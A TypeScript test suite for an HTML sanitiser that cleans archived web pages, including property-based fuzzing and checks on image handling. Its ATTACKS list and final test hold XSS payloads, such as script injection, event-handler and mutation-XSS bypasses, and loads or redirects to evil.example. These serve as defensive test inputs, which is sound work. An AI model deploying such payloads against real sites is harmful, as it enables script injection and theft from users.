import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { picturesIn, sanitisedPage } from './original.js'

const page = (body: string): string =>
  sanitisedPage(Buffer.from(`<!doctype html><html><body>${body}</body></html>`))

/** What is between the body's tags. */
const bodyOf = (html: string): string =>
  /<body dir="auto">([\s\S]*)<\/body><\/html>$/.exec(html)?.[1] ?? 'no body'

const ALLOWED =
  /<(?:\/?(?:p|div|section|article|main|header|footer|aside|h[1-6]|blockquote|q|cite|pre|code|ul|ol|li|dl|dt|dd|table|caption|thead|tbody|tfoot|tr|th|td|b|strong|i|em|u|s|small|sub|sup|span|time|abbr|figure|figcaption|address)(?: dir="(?:ltr|rtl|auto)")?(?: lang="[A-Za-z0-9-]+")?|[bh]r)>/g

/** Nothing is left that is neither text nor an element of the list. */
function assertPlain(html: string, from: string): void {
  const rest = bodyOf(html).replace(ALLOWED, '')
  assert.doesNotMatch(rest, /[<>"]/, `${from}\n=> ${html}`)
}

const ATTACKS = [
  '<script>steal()</script>',
  '<SCRIPT SRC=http://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>steal()</scr</script>ipt>',
  '<img src=x onerror=steal()>',
  '<svg/onload=steal()><svg><style><img src=x onerror=steal()></style></svg>',
  '<a href="javascript:steal()">words</a><a href="http://evil.example">words</a>',
  '<p style="background:url(http://evil.example/p.png)" class="x" id="y" onmouseover=steal()>words</p>',
  '<iframe srcdoc="<script>steal()</script>"></iframe><object data="x"></object><embed src="x">',
  '<form action="http://evil.example"><input name=a><button>go</button></form>',
  '<meta http-equiv=refresh content="0;url=http://evil.example"><base href="http://evil.example/">',
  '<link rel=stylesheet href=http://evil.example/x.css><style>@import "http://evil.example/x.css"</style>',
  '<noscript><p title="</noscript><img src=x onerror=steal()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;">',
  '<template><script>steal()</script></template><textarea></textarea><img src=x onerror=steal()>',
  '<p dir="rtl" onclick="steal()" lang="ar"><script>">words</p>',
  '<!--><img src=x onerror=steal()>--><![CDATA[<img src=x onerror=steal()>]]>',
  '<video src=x onerror=steal()><source src=x></video><audio autoplay src=x></audio>',
  '<p>&lt;script&gt;steal()&lt;/script&gt;</p>',
  '<plaintext><script>steal()</script>',
  '</body></html><script>steal()</script>',
]

test('nothing of an archived page runs, loads, leads away or looks like ours', () => {
  for (const attack of ATTACKS) assertPlain(page(attack), attack)
})

test('its words, their order, direction and language are kept', () => {
  const html = page(
    '<h1>عنوان</h1><div dir="RTL" lang="ar-SY"><p>سطر <b>أول</b><br>ثان</p></div><ul><li>one<li>two</ul>',
  )
  assert.equal(
    bodyOf(html),
    '<h1>عنوان</h1><div dir="rtl" lang="ar-SY"><p>سطر <b>أول</b><br>ثان</p></div><ul><li>one</li><li>two</li></ul>',
  )
})

test('what is no page is shown as the text that it is, and what is no text says so', () => {
  assert.match(sanitisedPage(Buffer.from('1 < 2 & "so"')), /<pre>1 &lt; 2 &amp; &quot;so&quot;<\/pre>/)
  assert.match(sanitisedPage(new Uint8Array([0, 255, 254, 0, 200])), /no text that can be shown/)
})

test('a page as deep as anybody likes does no harm', () => {
  assertPlain(page(`${'<div>'.repeat(50_000)}deep`), 'deep')
})

test('pictures are counted and not shown', () => {
  const html = '<html><body><img src=a><picture></picture><svg><image href=b></image></svg></body></html>'
  assert.equal(picturesIn(Buffer.from(html)), 3)
  assert.equal(picturesIn(Buffer.from('the word <img> in a text')), 0)
  assert.equal(picturesIn(null), 0)
})

const PIECES = [
  '<',
  '>',
  '"',
  "'",
  '=',
  '/',
  '&',
  ' ',
  '<p',
  '<p>',
  '</p>',
  '<script>',
  '</script>',
  '<svg>',
  '<style>',
  '<!--',
  '-->',
  'onload=x',
  ' dir="',
  ' lang="',
  'rtl',
  '<img src=x ',
  '<table>',
  '<td>',
  '<a href=',
  'javascript:',
  '<br/>',
  'words',
  '\u0000',
]

test('law: whatever the bytes, only text and elements of the list come out', () => {
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...PIECES), { maxLength: 40 }), (pieces) => {
      const body = pieces.join('')
      assertPlain(page(body), body)
    }),
    { seed: 5, numRuns: 500 },
  )
})

/** One white point. */
const POINT =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8/5+hHgAHggJ/PchI7wAAAABJRU5ErkJggg=='

test('pictures stay away until they are asked for; then only still ones that the bytes hold, grey', () => {
  const moving = Buffer.concat([Buffer.from(POINT, 'base64'), Buffer.from('acTL')]).toString('base64')
  const page = Buffer.from(
    `<html><body><p>text</p><img alt="a street" src="data:image/png;base64,${POINT}">` +
      `<img src="https://tracker.example/x.png" onerror="steal()"><img src="data:image/png;base64,${moving}">` +
      '<img src="data:image/svg+xml;base64,PHN2Zy8+"><img src="data:image/png;base64,AAAA"></body></html>',
  )
  assert.doesNotMatch(sanitisedPage(page), /<img|grayscale/)
  const shown = sanitisedPage(page, { pictures: true })
  assert.equal(shown.match(/<img/g)?.length, 1)
  assert.match(shown, /grayscale\(1\)/)
  assert.match(shown, /<img src="data:image\/png;base64,[^"]+" alt="a street">/)
  assert.doesNotMatch(shown, /tracker|onerror|svg/)
  assert.equal(shown.match(/a picture that these bytes do not hold/g)?.length, 4)
})
